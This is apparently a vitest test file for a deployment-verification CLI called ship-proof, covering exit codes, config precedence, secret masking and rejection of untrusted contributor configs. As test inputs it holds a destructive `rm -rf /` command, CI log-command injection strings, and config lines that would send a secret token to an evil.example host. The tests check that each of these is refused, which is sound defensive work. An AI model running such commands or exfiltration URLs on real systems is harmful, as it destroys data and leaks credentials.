// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is the config's own syntax
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Front } from '../src/front/front.ts';
import { systemClock } from '../src/ports/clock.ts';
import type { Http } from '../src/ports/http.ts';
import { inconclusive } from '../src/proof/errors.ts';
import { EXIT_CODES } from '../src/proof/outcome.ts';
import { type Proof, proofSchema } from '../src/proof/schema.ts';
import { type Host, run } from '../src/run.ts';
import { parseEvents, parseLogfmt } from './targets/logfmt.ts';
import { parseRunnerCommands } from './targets/runner-commands.ts';

let cwd: string;
beforeEach(async () => {
  cwd = await mkdtemp(join(tmpdir(), 'ship-proof-run-'));
});
afterEach(() => rm(cwd, { recursive: true, force: true }));

const PAGE = '<!doctype html><html><head><meta name="x-build-id" content="build-1"></head></html>';

/** A network in which every URL answers with this. */
const answering = (body: string, headers: Readonly<Record<string, string>> = {}): Http => ({
  resolve: async () => [{ address: '192.0.2.1', family: 4 }],
  request: async () => ({
    status: 200,
    header: (name) => ({ 'content-type': 'text/html', ...headers })[name],
    body: (async function* () {
      yield Buffer.from(body);
    })(),
    close: () => {},
  }),
});

/** A network in which nothing works as it should. */
const failing = (fail: () => never): Http => ({ resolve: async () => fail(), request: async () => fail() });

interface Given {
  readonly env?: Host['env'];
  readonly http?: Http;
  readonly front?: Partial<Front>;
  readonly controller?: AbortController;
}

/** Runs a mode through a front that remembers everything it is told. */
async function start(mode: string, inputs: Readonly<Record<string, unknown>>, given: Given = {}) {
  const lines: string[] = [];
  const masked: string[] = [];
  const published: { proof: Proof; files: { readonly proof: string | undefined } }[] = [];
  const front: Front = {
    kind: 'cli',
    mode,
    inputs: () => Object.entries(inputs).map(([name, value]) => ({ name, value, source: `--${name}` })),
    command: undefined,
    channels: { logFd: 1, json: false, outputFile: undefined },
    print: (line) => lines.push(line),
    mask: (secret) => masked.push(secret),
    remember: () => {},
    rememberCheck: () => {},
    out: undefined,
    publish: async (proof, files) => void published.push({ proof, files }),
    ...given.front,
  };
  const unused = () => Promise.reject(new Error('no child process is needed here'));
  const exit = await run(front, {
    clock: systemClock,
    http: given.http ?? answering(PAGE),
    exec: { run: unused },
    runCommand: unused,
    random: () => 0.5,
    env: given.env ?? {},
    cwd,
    userAgent: 'ship-proof/test',
    controller: given.controller ?? new AbortController(),
  });
  const [last] = published;
  if (!last || published.length > 1) throw new Error(`published ${published.length} times`);
  expect(proofSchema.safeParse(last.proof).error).toBeUndefined();
  expect(exit).toBe(EXIT_CODES[last.proof.outcome]);
  expect(parseRunnerCommands(lines.join('\n'))).toEqual([]);
  return { exit, lines, masked, events: parseEvents(lines.join('\n')), ...last };
}

const LIVE = { url: 'https://a.example/', 'build-id': 'build-1', within: '5s' };

/** A folder with one page, ready to be stamped. */
async function site(): Promise<string> {
  const dir = await mkdtemp(join(cwd, 'dist-'));
  await writeFile(join(dir, 'index.html'), '<html><head></head></html>');
  return dir;
}

describe('run', () => {
  it('makes a proof, its exit code, and a last line that sums it up', async () => {
    const { exit, lines, proof, files } = await start('verify-live', LIVE);
    expect({ exit, outcome: proof.outcome, files }).toEqual({
      exit: 0,
      outcome: 'passed',
      files: { proof: undefined, notes: [] },
    });
    expect(parseLogfmt(lines.at(-1) ?? '')).toEqual({
      mode: 'verify-live',
      fields: { outcome: 'passed', exit: '0', summary: 'verify-live passed, 1 of 1 checks passed' },
    });
  });

  it('writes the evidence where it is wanted, input over front', async () => {
    const dir = await site();
    const { files, proof } = await start(
      'stamp',
      { dir, 'build-id': 'build-1', out: 'evidence' },
      { front: { out: join(cwd, 'no') } },
    );
    expect(files.proof).toBe(join(cwd, 'evidence', 'proof.json'));
    expect(JSON.parse(await readFile(files.proof ?? '', 'utf8'))).toEqual(proof);
    expect(await readdir(cwd)).not.toContain('no');
  });

  it('does nothing at all when the evidence would have no place', async () => {
    const dir = await site();
    await writeFile(join(cwd, 'taken'), '');
    const { exit, events, proof } = await start('stamp', { dir, 'build-id': 'build-1', out: 'taken' });
    expect(exit).toBe(2);
    expect(proof.checks).toMatchObject([{ id: 'error:out-unwritable' }]);
    expect(events.map(({ fields }) => Object.keys(fields)[0])).toEqual(['check', 'outcome']);
    expect(await readdir(dir)).toEqual(['index.html']);
  });

  it('writes nothing about an input that is wrong', async () => {
    const { exit, proof, files } = await start('stamp', { dirr: 'x' }, { front: { out: join(cwd, 'out') } });
    expect({ exit, files }).toEqual({ exit: 2, files: { proof: undefined, notes: [] } });
    expect(proof.checks[0]?.observed).toContain('did you mean `dir`?');
    expect(await readdir(cwd)).toEqual([]);
  });

  it.each([
    ['verify-liv', 'there is no mode `verify-liv` (did you mean `verify-live`?)'],
    ['', 'no mode was given'],
    ['constructor', 'there is no mode `constructor`'],
    ['DEPLOYED build-1\n::error::x', 'there is no mode `DEPLOYED build-1\\u000a::error::x`'],
  ])('does not know the mode %j', async (name, message) => {
    const { exit, proof, lines } = await start(name, {});
    expect(exit).toBe(2);
    expect(proof).toMatchObject({ mode: 'unknown', checks: [{ id: 'error:mode-unknown' }] });
    expect(proof.checks[0]?.observed).toContain(message);
    for (const line of lines) expect(parseLogfmt(line).mode).toBe('unknown');
  });

  it('refuses a command for a mode that runs none', async () => {
    const { exit, proof } = await start('stamp', {}, { front: { command: ['rm', '-rf', '/'] } });
    expect(exit).toBe(2);
    expect(proof.checks[0]?.observed).toBe('`stamp` runs no command, so nothing may stand after --');
  });

  it('calls a bug of ours inconclusive, and tells its stack in the log and in the proof', async () => {
    const http = failing(() => {
      throw new TypeError('x is undefined\n::error::x');
    });
    const { exit, events, proof } = await start('verify-live', LIVE, {
      http,
      front: { out: join(cwd, 'out') },
    });
    expect(exit).toBe(3);
    expect(proof.checks).toMatchObject([
      {
        id: 'error:internal',
        status: 'untestable',
        observed: 'ship-proof itself failed: x is undefined\\u000a::error::x',
      },
    ]);
    expect(proof.checks[0]?.detail).toContain('run.test.ts');
    const stack = events
      .filter(({ fields }) => fields.error === 'internal')
      .map(({ fields }) => fields.stack);
    expect(stack.join('\n')).toMatch(/^TypeError: x is undefined[\s\S]*\nat .*run\.test\.ts/);
    expect(await readdir(join(cwd, 'out'))).toContain('proof.json');
  });

  it.each([
    ['a signal', inconclusive('interrupted', 'stopped by SIGTERM'), 'error:interrupted'],
    ['something else', 'no reason', 'error:interrupted'],
  ])('proves nothing when it is cut short by %s', async (_, reason, id) => {
    const controller = new AbortController();
    const http = answering('<html></html>');
    const request: Http['request'] = (asked) => {
      controller.abort(reason);
      return http.request(asked);
    };
    const { exit, proof } = await start('verify-live', LIVE, { controller, http: { ...http, request } });
    expect({ exit, outcome: proof.outcome }).toEqual({ exit: 3, outcome: 'inconclusive' });
    expect(proof.checks.filter((check) => check.id === id)).toHaveLength(1);
  });

  it('ends at its timeout', async () => {
    const http: Http = {
      resolve: async () => [{ address: '192.0.2.1', family: 4 }],
      request: ({ signal }) =>
        new Promise((_, fail) => signal.addEventListener('abort', () => fail(signal.reason))),
    };
    const { exit, proof } = await start('verify-live', { ...LIVE, timeout: '300ms' }, { http });
    expect(exit).toBe(3);
    expect(proof.checks.at(-1)).toMatchObject({ id: 'error:timeout', status: 'untestable' });
  });

  it('says DEPLOYED or NOT DEPLOYED last, for a mode that is asked for it, whatever happened', async () => {
    const { lines, exit } = await start('demo', { broken: 'nonsense' });
    expect(exit).toBe(2);
    expect(lines.at(-1)).toMatch(/^NOT DEPLOYED input:broken: "nonsense"/);
    expect((await start('verify-live', LIVE)).lines.join('\n')).not.toContain('DEPLOYED');
  });

  it('lets no secret and no command of a server out', async () => {
    const secret = 'hunter22/+"x';
    const evil = `##[error]x ${secret} ${encodeURIComponent(secret)}`;
    const http = answering(PAGE, { etag: `"${evil}"`, 'x-cache': evil, age: evil });
    const headers = { headers: `x-token: ${secret}` };
    const { lines, proof, masked } = await start('verify-live', { ...LIVE, ...headers }, { http });
    expect(masked).toContain(secret);
    const all = `${lines.join('\n')}\n${JSON.stringify(proof)}`;
    expect(all).toContain('***');
    expect(all).not.toMatch(/hunter22|##\[/);
  });

  it('names the run that it is part of', async () => {
    const env = {
      GITHUB_ACTIONS: 'true',
      GITHUB_REPOSITORY: 'o/r',
      GITHUB_RUN_ID: '7',
      GITHUB_RUN_ATTEMPT: '2',
      GITHUB_SERVER_URL: 'https://github.com',
      GITHUB_SHA: '',
      GITHUB_EVENT_NAME: 'push',
    };
    expect((await start('verify-live', LIVE, { env })).proof.run).toEqual({
      ...{
        repository: 'o/r',
        id: '7',
        attempt: 2,
        event: 'push',
        url: 'https://github.com/o/r/actions/runs/7',
      },
    });
  });
});

describe('run, with a config', () => {
  const config = (text: string) => writeFile(join(cwd, 'ship-proof.yml'), text);

  it('ranks it below the environment, and that below the front', async () => {
    await config('live:\n  build-id: build-1\n  url: https://config.example/\n  within: 5s\n');
    const env = { SHIP_PROOF_INPUT_URL: 'https://environment.example/' };
    expect((await start('verify-live', {}, { env })).proof.subject.url).toEqual([
      'https://environment.example/',
    ]);
    expect(
      (await start('verify-live', { url: 'https://front.example/' }, { env })).proof.subject.url,
    ).toEqual(['https://front.example/']);
    expect((await start('verify-live', {})).proof.subject.url).toEqual(['https://config.example/']);
  });

  it.each([
    ['live:\n  within: 5s\n  urll: https://a.example/\n', 'input:urll', 3],
    ['live:\n  url: nonsense\n  build-id: build-1\n', 'input:url', 2],
    ['live:\n  url: ${MISSING}\n', 'error:config-variable', 2],
    ['live:\n  url: [\n', 'error:config-yaml', 3],
    ['live:\n  out: /etc\n', 'input:out', 2],
    ['\npolicy: []\n', 'error:config-policy', 2],
  ])('points at the line of %j', async (text, id, line) => {
    await config(text);
    const { exit, proof } = await start('verify-live', {});
    expect(exit).toBe(2);
    expect(proof.checks.find((check) => check.id === id)?.at).toEqual({ file: 'ship-proof.yml', line });
  });

  it('masks its secrets everywhere, also in the error that one of them causes', async () => {
    await config('live:\n  url: https://a.example/\n  build-id: ${secret:ID}\n  where: ${secret:WHERE}\n');
    const env = { ID: `hunter22 ${'x'.repeat(500)}`, WHERE: 'nonsense-99' };
    const { exit, lines, proof } = await start('verify-live', {}, { env });
    expect(exit).toBe(2);
    expect(`${lines.join('\n')}${JSON.stringify(proof)}`).not.toMatch(/hunter22|xxx|nonsense-99/);
  });

  const pullRequest = { GITHUB_ACTIONS: 'true', GITHUB_EVENT_NAME: 'pull_request_target', TOKEN: 'hunter22' };
  it.each([
    ['a secret', 'live:\n  build-id: build-1\n  headers: { x: "${secret:TOKEN}" }\n', {}],
    ['a variable', 'live:\n  build-id: build-1\n  url: https://evil.example/${TOKEN}\n', {}],
    [
      "the workflow's header fields",
      'live:\n  build-id: build-1\n  url: https://evil.example/\n',
      { headers: 'x-token: hunter22' },
    ],
  ])("gives a contributor's config no way to %s", async (_, text, inputs) => {
    await config(text);
    const http = failing(() => {
      throw new Error('something was sent');
    });
    const { exit, proof } = await start('verify-live', inputs, { env: pullRequest, http });
    expect(exit).toBe(2);
    expect(proof.checks).toMatchObject([{ id: 'error:config-untrusted', at: { file: 'ship-proof.yml' } }]);
  });

  it("takes a contributor's config that reaches for nothing", async () => {
    await config('live:\n  build-id: build-1\n  url: https://a.example/\n');
    expect((await start('verify-live', {}, { env: pullRequest })).exit).toBe(0);
  });
});
